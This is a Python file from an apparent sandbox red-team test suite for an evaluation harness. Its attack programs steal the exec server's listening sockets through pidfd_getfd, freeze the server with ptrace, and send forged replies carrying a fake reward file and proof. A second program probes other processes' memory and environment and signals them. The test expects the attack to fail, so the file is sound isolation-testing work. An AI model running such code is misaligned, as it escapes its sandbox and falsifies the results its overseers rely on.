"""Programs of a command that wants to take the place of the exec server."""

from __future__ import annotations

from rollyard_testing.adversary.attacks import Attack

# The calls are made by number, so that no library of the sandbox stands between.
HEAD = """
import ctypes, errno, json, os, platform, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
PTRACE, VM_READV, KEYCTL = (101, 310, 250) if X86 else (117, 270, 219)
PIDFD_OPEN, PIDFD_GETFD = 434, 438
def call(number, *arguments):
    ctypes.set_errno(0)
    value = libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    return value, ctypes.get_errno()
def others():
    own = {os.getpid(), os.getppid()} - {1}
    found = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return sorted({1, *found, *range(1, 40)} - own - {0})
"""

# It takes every listening socket of every process, stops the process that had it, and serves in its place.
TAKEOVER = (
    HEAD
    + r"""
def serve(connection):
    data = b""
    while True:
        part = connection.recv(65536)
        if not part:
            return
        data += part
        while len(data) >= 8:
            head, body = struct.unpack("!II", data[:8])
            if len(data) < 8 + head + body:
                break
            request = json.loads(data[8 : 8 + head])
            data = data[8 + head + body :]
            answer = {
                "id": request["id"], "version": 1, "pid": 1, "count": 1,
                "folder": "/tmp", "home": "/tmp", "tmp": "/tmp", "reward_file": "/tmp/r", "proof": "00" * 32,
                "exit": 0, "cwd": "/", "seconds": 0.1, "timed_out": False, "killed": False, "truncated": 0,
                "restarted": False, "result": "", "size": 0, "mode": 0,
            }
            text = json.dumps(answer).encode()
            connection.sendall(struct.pack("!II", len(text), 0) + text)

stolen, victims = [], []
for pid in others():
    pidfd, _ = call(PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        continue
    mine = []
    for number in range(64):
        fd, _ = call(PIDFD_GETFD, pidfd, number, 0)
        if fd < 0:
            continue
        try:
            sock = socket.socket(fileno=os.dup(fd))
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                mine.append(sock)
        except OSError:
            pass
    if mine:
        stolen += mine
        victims.append(pid)
print("stolen", len(stolen), flush=True)
while not os.path.exists("/work/go"):
    time.sleep(0.01)
for pid in victims:
    call(PTRACE, 16, pid, 0, 0)
open("/work/armed", "w").close()
def accept(listener):
    listener.setblocking(True)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()
threads = [threading.Thread(target=accept, args=(sock,)) for sock in stolen]
for thread in threads:
    thread.start()
"""
)

# It tries every way to look into another process, and prints those that worked.
LOOK_INTO = (
    HEAD
    + r"""
worked = []
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in others():
    for name in ("mem", "environ", "maps", "auxv", "syscall", "stack"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if name == "mem" or file.read(1):
                    worked.append((pid, name))
        except OSError:
            pass
    for name in ("root", "cwd", "exe", "fd/3"):
        try:
            os.readlink(f"/proc/{pid}/{name}")
            worked.append((pid, name))
        except OSError:
            pass
    for request, name in ((16, "attach"), (0x4206, "seize")):
        if call(PTRACE, request, pid, 0, 0)[0] >= 0:
            worked.append((pid, name))
    buffer = ctypes.create_string_buffer(8)
    local, remote = Vector(ctypes.addressof(buffer), 8), Vector(id(buffer), 8)
    if call(VM_READV, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)[0] >= 0:
        worked.append((pid, "process_vm_readv"))
    pidfd, _ = call(PIDFD_OPEN, pid, 0)
    if pidfd >= 0:
        worked += [(pid, f"fd {n}") for n in range(16) if call(PIDFD_GETFD, pidfd, n, 0)[0] >= 0]
    for number in (signal.SIGSTOP, signal.SIGKILL):
        before = open(f"/proc/{pid}/stat").read() if os.path.exists(f"/proc/{pid}/stat") else None
        try:
            os.kill(pid, number)
        except OSError:
            continue
        if pid != 1:
            worked.append((pid, f"signal {int(number)}"))
print(json.dumps(worked))
"""
)

ATTACKS = [
    Attack(
        name="taken_socket",
        goal="Take the exec server's socket, stop the server, and answer Eval's calls in its place.",
        steps=(
            f"touch go; cat > takeover.py <<'ENDOFPROGRAM'\n{TAKEOVER}\nENDOFPROGRAM",
            "@PY@ takeover.py @MARK@ > said 2>&1 & "
            "until [ -e armed ] || ! kill -0 $!; do sleep 0.05; done; cat said",
        ),
        shows=("^stolen 0$",),
        hides=("^stolen [1-9]", "Traceback"),
    )
]
